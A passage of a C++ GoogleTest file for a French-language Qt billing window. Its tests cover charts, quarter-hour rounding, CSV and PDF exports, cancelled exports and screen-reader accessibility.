    EXPECT_TRUE(text.contains("du 01/03/2026 au 31/03/2026"));
}

TEST_F(BillingTest, ChartsShowTheSelectionAndCopyAsAPicture) {
    view();
    billing->ChartsButton->click();
    ChartsView* c = billing->chartsView();
    EXPECT_TRUE(c->isVisible());
    EXPECT_EQ(c->Bars->accessibleName(), "Heures par client");
    // Twelve clients: the seven largest and "Autres" in the pie.
    EXPECT_TRUE(c->Pie->accessibleDescription().contains("Autres : "));
    ASSERT_EQ(c->Pie->chart()->series().size(), 1);
    const auto* pie = qobject_cast<QPieSeries*>(c->Pie->chart()->series()[0]);
    ASSERT_NE(pie, nullptr);
    EXPECT_EQ(pie->count(), 8);
    const QImage picture = c->picture();
    EXPECT_FALSE(picture.isNull());
    EXPECT_GT(picture.width(), 300);
}

// A selection with no entry draws empty charts without the charts library
// complaining of an empty range.
TEST_F(BillingTest, ChartsOfAnEmptySelectionDrawWithoutComplaint) {
    static QStringList complaints;
    complaints.clear();
    const QtMessageHandler previous =
        qInstallMessageHandler([](QtMsgType type, const QMessageLogContext&, const QString& m) {
            if (type != QtDebugMsg) complaints << m;
        });
    form->dateDebut->setDateTime(QDateTime(QDate(2030, 1, 1), QTime(10, 0)));
    form->DateFin->setDateTime(QDateTime(QDate(2030, 1, 31), QTime(10, 0)));
    form->Commenter->click();
    waitTotals();
    billing->ChartsButton->click();
    billing->chartsView()->picture();
    qInstallMessageHandler(previous);
    EXPECT_TRUE(complaints.filter("range").isEmpty() && complaints.filter("NaN").isEmpty())
        << complaints.join("\n").toStdString();
}

// A morning's work: the hour axis steps by less than an hour, and every
// tick's label differs from the others.
TEST_F(BillingTest, TheHourAxisLabelsEachTickDifferently) {
    addBatch("Matin", 40);  // 40 minutes
    form->cbClients->setEditText("Matin");
    view();
    ASSERT_EQ(billing->StatusLine->text(), batchStatus(40));
    billing->ChartsButton->click();
    const QList<QAbstractAxis*> axes = billing->chartsView()->Bars->chart()->axes(Qt::Horizontal);
    ASSERT_EQ(axes.size(), 1);
    const auto* hours = qobject_cast<QValueAxis*>(axes[0]);
    ASSERT_NE(hours, nullptr);
    QStringList labels;
    const int ticks = hours->tickCount();
    for (int k = 0; k < ticks; ++k) {
        const double at = hours->min() + k * (hours->max() - hours->min()) / (ticks - 1);
        labels << QString::asprintf(hours->labelFormat().toLatin1().constData(), at);
    }
    EXPECT_EQ(QSet<QString>(labels.begin(), labels.end()).size(), labels.size())
        << labels.join(" | ").toStdString();
}

// Long names at the window's size: each label keeps its figure and a name
// shortened with "…"; the full name is in the tooltip of its bar, slice and
// legend entry, and in the charts' descriptions.
TEST_F(BillingTest, LongNamesInTheChartsKeepTheirFigureAndTellTheFullName) {
    const QString longName = "Garage Tremblay et fils, carrosserie générale de la Haute-Ville";
    addBatch(longName, 450);  // 7,5 h
    form->cbClients->setEditText(longName);
    view();
    billing->ChartsButton->click();
    ChartsView* c = billing->chartsView();
    auto* names = qobject_cast<QBarCategoryAxis*>(c->Bars->chart()->axes(Qt::Vertical)[0]);
    ASSERT_NE(names, nullptr);
    ASSERT_EQ(names->categories().size(), 1);
    const QString label = names->categories()[0];
    EXPECT_TRUE(label.endsWith("<br>7,50 h")) << label.toStdString();
    EXPECT_TRUE(label.contains(u'…'));
    EXPECT_LE(QFontMetrics(names->labelsFont()).horizontalAdvance(label.section("<br>", 0, 0)),
              ChartsView::kNameWidth);
    EXPECT_TRUE(c->Bars->accessibleDescription().contains(longName));
    EXPECT_TRUE(c->Pie->accessibleDescription().contains(longName));

    const QString full = longName + " — 7,50 h";
    auto* set = qobject_cast<QAbstractBarSeries*>(c->Bars->chart()->series()[0])->barSets()[0];
    emit set->hovered(true, 0);
    EXPECT_EQ(QToolTip::text(), full);
    emit set->hovered(false, 0);
    auto* pie = qobject_cast<QPieSeries*>(c->Pie->chart()->series()[0]);
    ASSERT_EQ(pie->count(), 1);
    EXPECT_TRUE(pie->slices()[0]->label().contains(u'…'));
    EXPECT_TRUE(pie->slices()[0]->label().endsWith("<br>100,0 %"));
    emit pie->slices()[0]->hovered(true);
    EXPECT_EQ(QToolTip::text(), longName + " (100,0 %)");
    emit pie->slices()[0]->hovered(false);
    const auto markers = c->Pie->chart()->legend()->markers(pie);
    ASSERT_EQ(markers.size(), 1);
    emit markers[0]->hovered(true);
    EXPECT_EQ(QToolTip::text(), longName + " (100,0 %)");
    // Names are text, not markup.
    addBatch("<b>A & B</b>", 60);
    form->cbClients->setEditText("Tous");
    view();
    names = qobject_cast<QBarCategoryAxis*>(c->Bars->chart()->axes(Qt::Vertical)[0]);
    EXPECT_TRUE(names->categories().filter("&lt;b&gt;A &amp; B&lt;/b&gt;<br>").size() == 1)
        << names->categories().join(" | ").toStdString();
}

// Billed totals computed apart from the program: each entry rounded up, or
// each client's total rounded up, to the quarter hour.
TEST_F(BillingTest, RoundingPerEntryOrPerLineIsSaidBesideEveryTotal) {
    const qint64 step = 900;
    const auto up = [&](qint64 s) { return (s + step - 1) / step * step; };
    qint64 perEntry = 0, all = 0;
    for (const Entry& e : entries) {
        perEntry += up(e.duration);
        all += e.duration;
    }
    const qint64 perLine = up(all);  // one month: one line
    ASSERT_NE(perEntry, perLine);

    view();
    billing->SummaryButton->click();
    SummaryView* s = billing->summaryView();
    s->GroupingBox->setCurrentIndex(int(Grouping::Month));
    EXPECT_FALSE(s->RuleLabel->isVisible());
    const struct {
        bool perLine;
        qint64 billed;
        QString rule;
    } cases[] = {
        {false, perEntry, "arrondi au quart d'heure supérieur, entrée par entrée"},
        {true, perLine,
         "arrondi au quart d'heure supérieur, sur le total de chaque ligne (par mois)"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.rule.toStdString());
        s->RoundingBox->setCurrentIndex(s->RoundingBox->findData("15 haut"));
        s->ScopeBox->setCurrentIndex(c.perLine ? 1 : 0);
        waitTotals();
        EXPECT_EQ(billing->totals().rounded(Grouping::Month), c.billed);
        const QString billed = hmsText(c.billed) + " — " + decimalHoursText(c.billed) + " h";
        EXPECT_TRUE(billing->StatusLine->text().endsWith("facturé : " + billed + ", " + c.rule))
            << billing->StatusLine->text().toStdString();
        EXPECT_TRUE(s->RuleLabel->isVisible());
        EXPECT_EQ(s->RuleLabel->text(), "Total facturé : " + billed + ", " + c.rule);
        // The month's line as billed.
        ASSERT_EQ(s->Model->rowCount(), 1);
        EXPECT_EQ(s->Model->index(0, 5).data().toString(), hmsText(c.billed));

        const auto summary = readCsv(readAll(exported(Export::SummaryCsv, "s.csv")));
        ASSERT_FALSE(summary.empty());
        EXPECT_EQ(summary.back(), QStringList{"Arrondi : " + c.rule});
        EXPECT_EQ(summary[summary.size() - 2][6], QString::number(c.billed));
        const auto rows = readCsv(readAll(exported(Export::EntriesCsv, "e.csv")));
        // An entry's own rounded duration only when each entry is rounded.
        EXPECT_EQ(rows[0].contains("Durée arrondie (h:mm:ss)"), !c.perLine);
        if (!c.perLine)
            for (size_t i = 0; i < entries.size(); ++i) {
                const QStringList& r = rows[i + 1];
                EXPECT_EQ(r[8], hmsText(r[7].toLongLong()));
                EXPECT_EQ(r[10], hmsText(up(r[7].toLongLong()))) << i;
            }
        boxes.answers = {true, true};  // replace both files next time
    }
    // The setting keeps the choice.
    EXPECT_EQ(ReadSetting(kRoundingSetting), "15 haut ligne");
    EXPECT_EQ(Rounding::fromSetting("15 haut ligne"), (Rounding{15, false, true}));
}

// The PDF with rounding: each entry's rounded duration beside its own, and
// the rule under the summary.
TEST_F(BillingTest, PdfShowsEachEntrysRoundedDurationAndTheRule) {
    const QString pdftotext = QStandardPaths::findExecutable("pdftotext");
    if (pdftotext.isEmpty()) GTEST_SKIP() << "pdftotext is not installed";
    WriteSetting(kRoundingSetting, "15 haut");
    form = std::make_unique<TForm5>();
    form->show();
    billing = form->Billing;
    view();
    const QString path = exported(Export::Pdf, "arrondi.pdf");
    QProcess p;
    p.start(pdftotext, {"-layout", path, "-"});
    ASSERT_TRUE(p.waitForFinished(60000));
    const QString text = QString::fromUtf8(p.readAllStandardOutput());
    EXPECT_TRUE(
        text.contains("Durées arrondies : arrondi au quart d'heure supérieur, entrée par "
                      "entrée"))
        << text.toStdString();
    for (const Entry& e : entries) {
        const qint64 up = (e.duration + 899) / 900 * 900;
        const QRegularExpression line(QRegularExpression::escape(hmsText(e.duration)) +
                                      "\\s+[0-9,]+\\s+" + QRegularExpression::escape(hmsText(up)));
        EXPECT_TRUE(text.contains(line)) << e.duration;
    }
}

// 100,000 entries: every one on its page, the pages counted and numbered.
TEST_F(BillingTest, PdfOfAHundredThousandEntriesHoldsEveryOne) {
    const QString pdftotext = QStandardPaths::findExecutable("pdftotext");
    if (pdftotext.isEmpty()) GTEST_SKIP() << "pdftotext is not installed";
    db.exec("DELETE FROM activites");
    db.exec(
        "INSERT INTO activites (\"USER\", SURVEILLANCES, CLIENTS, DEBUT, FIN, DUREE, COMMENTAIRE) "
        "WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 99999) "
        "SELECT 'u', 'Saisie', 'Client ' || (i % 7), "
        "strftime('%Y-%m-%d %H:%M:%S', '2026-03-02 08:00:00', '+' || (i * 20) || ' seconds'), "
        "strftime('%Y-%m-%d %H:%M:%S', '2026-03-02 08:00:10', '+' || (i * 20) || ' seconds'), "
        "10, printf('n%06d', i) FROM n");
    view();
    ASSERT_EQ(billing->totals().entries(), 100000);
    const QString path = exported(Export::Pdf, "cent-mille.pdf");
    QProcess p;
    p.start(pdftotext, {"-layout", path, "-"});
    ASSERT_TRUE(p.waitForFinished(110000));
    const QString text = QString::fromUtf8(p.readAllStandardOutput());
    const QStringList pages = text.split(u'\f', Qt::SkipEmptyParts);
    std::vector<bool> seen(100000);
    const QRegularExpression note("\\bn(\\d{6})\\b");
    for (auto m = note.globalMatch(text); m.hasNext();) seen[m.next().captured(1).toInt()] = true;
    EXPECT_EQ(std::count(seen.begin(), seen.end(), true), 100000);
    ASSERT_GT(pages.size(), 1000);
    for (int i : {0, int(pages.size()) / 2, int(pages.size()) - 1})
        EXPECT_TRUE(pages[i].contains(QString("Page %1 / %2").arg(i + 1).arg(pages.size()))) << i;
}

// A cancelled export leaves no file, and an old one as it was.
TEST_F(BillingTest, ACancelledPdfExportLeavesTheFolderAsItWas) {
    addBatch("Lot", 40000);  // long enough for the progress to show
    view();
    billing->paintSliceMs = 1;
    const QString fresh = out.filePath("nouveau.pdf");
    const QString old = out.filePath("ancien.pdf");
    QFile f(old);
    ASSERT_TRUE(f.open(QIODevice::WriteOnly));
    f.write("ancien contenu");
    f.close();
    for (const QString& path : {fresh, old}) {
        SCOPED_TRACE(path.toStdString());
        bool shown = false;
        QTimer cancel;
        QObject::connect(&cancel, &QTimer::timeout, [&] {
            // Cancelled once shown, as a user would.
            if (auto* d = form->findChild<QProgressDialog*>("PaintProgress"); d && d->isVisible()) {
                shown = true;
                d->cancel();
            }
        });
        cancel.start(5);
        boxes.answers = {true};  // replace the old file
        EXPECT_FALSE(billing->exportFile(Export::Pdf, path));
        EXPECT_TRUE(shown);
    }
    EXPECT_FALSE(QFile::exists(fresh));
    EXPECT_EQ(readAll(old), "ancien contenu");
    EXPECT_EQ(QDir(out.path()).entryList(QDir::Files), QStringList{"ancien.pdf"});
    EXPECT_TRUE(boxes.errors.isEmpty()) << boxes.errors.join(' ').toStdString();
}

// What a screen reader says of a control: name, description.
std::pair<QString, QString> spoken(QWidget* w) {
    QAccessibleInterface* i = QAccessible::queryAccessibleInterface(w);
    if (!i) return {};
    return {i->text(QAccessible::Name), i->text(QAccessible::Description)};
}
// The label a screen reader reads with a control: its own name, or on
// Linux, where a list's name is its value, the label it is related to.
QString labelOf(QWidget* w) {
    QAccessibleInterface* i = QAccessible::queryAccessibleInterface(w);
    if (!i) return {};
    for (const auto& [other, relation] : i->relations(QAccessible::Label))
        if (other) return other->text(QAccessible::Name).remove(u'&');
    return i->text(QAccessible::Name);
}

// The total is read on the status line (in its name: a screen reader reads
// no more of a label), and said wherever the focus is once the report and
// its totals are complete.
TEST_F(BillingTest, TheTotalIsReadAndSaidWhenComplete) {
    test::AccessibleEvents heard;
    view();
    const QString total = billing->StatusLine->text();
    ASSERT_TRUE(total.startsWith("12 entrées — 19:31:06 — 19,52 h"));
    EXPECT_EQ(spoken(billing->StatusLine),
              std::make_pair(QString("Total de la sélection : ") + total, total));
    EXPECT_GE(heard.count(QAccessible::NameChanged, billing->StatusLine), 1);
    EXPECT_GE(heard.count(QAccessible::DescriptionChanged, billing->StatusLine), 1);
    EXPECT_EQ(heard.announcements(), QStringList{total});

    // A new report is said again, with its own total.
    heard.clear();
    form->cbClients->setCurrentText("Dupont \"&\" fils");
    view();
    EXPECT_EQ(heard.announcements(), QStringList{billing->StatusLine->text()});
    EXPECT_TRUE(billing->StatusLine->text().startsWith("1 entrée — 00:15:00 — 0,25 h"));
}

// Tab goes down the window as it is seen: from the report to its total and
// the buttons beside it, then the commands at the bottom.
TEST_F(BillingTest, TabFollowsTheWindowFromTopToBottom) {
    view();
    form->activateWindow();
    ASSERT_TRUE(QTest::qWaitForWindowActive(form.get()));
    form->RichEdit1->setFocus();
    QList<QWidget*> order;
    for (int i = 0; i < 12 && !order.contains(form->ColorButton2); ++i) {
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
        order << QApplication::focusWidget();
    }
    const auto at = [&](QWidget* w) { return order.indexOf(w); };
    ASSERT_GE(at(billing->StatusLine), 0);
    EXPECT_LT(at(billing->StatusLine), at(billing->ExportButton));
    EXPECT_LT(at(billing->ExportButton), at(form->ColorButton1));
    EXPECT_LT(at(form->ColorButton1), at(form->ColorButton2));
}

// The total's line shows when Tab reaches it, without moving its text.
TEST_F(BillingTest, TheTotalsLineShowsTheFocus) {
    view();
    form->activateWindow();
    ASSERT_TRUE(QTest::qWaitForWindowActive(form.get()));
    QLabel* line = billing->StatusLine;
    form->RichEdit1->setFocus();
    const QImage unfocused = line->grab().toImage();
    line->setFocus(Qt::TabFocusReason);
    ASSERT_TRUE(line->hasFocus());
    const QImage focused = line->grab().toImage();
    ASSERT_EQ(focused.size(), unfocused.size());
    int ring = 0;
    for (int x = 0; x < focused.width(); ++x)
        ring +=
            focused.pixel(x, 0) != unfocused.pixel(x, 0) && focused.pixel(x, 0) == qRgb(0, 0, 0);
    EXPECT_GT(ring, focused.width() / 4) << "a ring along the top edge";
}

// Each list says its value with its label, and again when it changes.
TEST_F(BillingTest, EveryListSaysItsValue) {
    view();
    SummaryView* summary = billing->summaryView();
    form->activateWindow();
    ASSERT_TRUE(QTest::qWaitForWindowActive(form.get()));
    const struct {
        QComboBox* box;
        QString label;
        bool charts;
    } lists[] = {{summary->GroupingBox, "Regrouper", false},
                 {summary->RoundingBox, "Arrondi", false},
                 {summary->SortBox, "Trier par", false},
                 {billing->chartsView()->GroupingBox, "Regrouper", true}};
    for (const auto& l : lists) {
        SCOPED_TRACE(l.label.toStdString());
        ASSERT_GT(l.box->count(), 1);
        if (l.charts)
            billing->showCharts();
        else
            billing->showSummary();
        l.box->setFocus();
        EXPECT_EQ(labelOf(l.box), l.label);
        EXPECT_EQ(spoken(l.box).second, l.box->currentText());
        test::AccessibleEvents heard;
        const int next = (l.box->currentIndex() + 1) % l.box->count();
        l.box->setCurrentIndex(next);
        EXPECT_EQ(spoken(l.box).second, l.box->itemText(next));
        ASSERT_GE(heard.count(QAccessible::DescriptionChanged, l.box), 1);
        for (const auto& e : heard.events)
            if (e.type == QAccessible::DescriptionChanged && e.object == l.box) {
                EXPECT_EQ(e.description, l.box->itemText(next));
            }
    }
}

// Ctrl+E, as the export button says, from the filters where the focus
// starts: the menu opens on its first item; an export done is said.
TEST_F(BillingTest, CtrlEExportsFromTheFiltersAndTheExportIsConfirmed) {
    view();
    form->activateWindow();
    ASSERT_TRUE(QTest::qWaitForWindowActive(form.get()));
    QLineEdit* filter = form->cbClients->lineEdit();
    filter->setFocus();
    filter->setCursorPosition(0);
    QAction* active = nullptr;
    bool opened = false;
    QTimer::singleShot(100, [&] {
        opened = billing->ExportMenu->isVisible();
        active = billing->ExportMenu->activeAction();
        billing->ExportMenu->close();
    });
    QTest::keyClick(filter, Qt::Key_E, Qt::ControlModifier);
    QTest::qWait(150);
    EXPECT_TRUE(opened) << "the box took Ctrl+E";
    EXPECT_EQ(active, billing->ExportMenu->actions().value(0));
    EXPECT_EQ(filter->cursorPosition(), 0) << "taken as end of line";

    test::AccessibleEvents heard;
    exported(Export::EntriesCsv, "surveillances.csv");
    EXPECT_EQ(billing->DoneLine->text(), "Export enregistré : surveillances.csv");
    EXPECT_EQ(heard.announcements(), QStringList{"Export enregistré : surveillances.csv"});
}

// The window opens on its first list; closed with Escape, it gives the
// window that opened it back, whose menus' keys work at once.
TEST_F(BillingTest, FocusStartsOnTheFirstListAndGoesBackOnEscape) {
    form.reset();
    QWidget opener;
    opener.resize(300, 200);
    opener.show();
    opener.activateWindow();
    ASSERT_TRUE(QTest::qWaitForWindowActive(&opener));
    form = std::make_unique<TForm5>(&opener);
    billing = form->Billing;
    form->show();
    form->activateWindow();
    ASSERT_TRUE(QTest::qWaitForWindowActive(form.get()));
    QCoreApplication::processEvents();
    QWidget* first = QApplication::focusWidget();
    ASSERT_NE(first, nullptr);
    EXPECT_TRUE(first == form->cbTravaux || form->cbTravaux->isAncestorOf(first));
    EXPECT_EQ(labelOf(form->cbTravaux), "Surveillances");
    QTest::keyClick(first, Qt::Key_Escape);
    EXPECT_FALSE(form->isVisible());
    EXPECT_TRUE(QTest::qWaitFor([&] { return QApplication::activeWindow() == &opener; }));
    form.reset();  // before its parent
}

}  // namespace
